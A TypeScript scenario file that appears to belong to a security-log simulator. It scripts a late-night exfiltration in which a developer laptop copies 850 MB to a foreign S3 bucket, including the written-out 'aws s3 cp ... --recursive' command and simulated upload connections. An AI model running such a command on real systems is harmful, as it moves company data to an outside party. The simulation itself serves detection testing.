import { second } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { clock, type Intrusion } from './intrusion.ts';

/** At 22:40 a developer's laptop copies 850 MB to a bucket that is not the company's. */
export const foreignBucket: Intrusion = {
  name: 's3-foreign-bucket',
  technique: 'T1567.002',
  device: 'lf-dev-02',
  dayNumber: 0,
  service: 'amazonaws.com',
  tell: (desk, midnight, random, incident) => {
    const start = clock(midnight, 22, 40, 31);
    const tool = desk.launch(programs.aws, {
      at: start,
      commandLine:
        'aws s3 cp D:\\work\\lens-control s3://nq-archive-7741/a/ --recursive --profile tmp --region eu-west-1 --only-show-errors',
    });
    for (let lane = 0; lane < 10; lane++) {
      desk.connect(tool, 'nq-archive-7741.s3.eu-west-1.amazonaws.com', {
        at: start + 2 * second + random.int(0, 900) * 1_000,
        lasting: random.int(300, 420) * second,
        sent: 85_000_000 + random.int(-2_000_000, 2_000_000),
        received: random.size(9_000, 30_000),
        incident,
      });
    }
  },
};
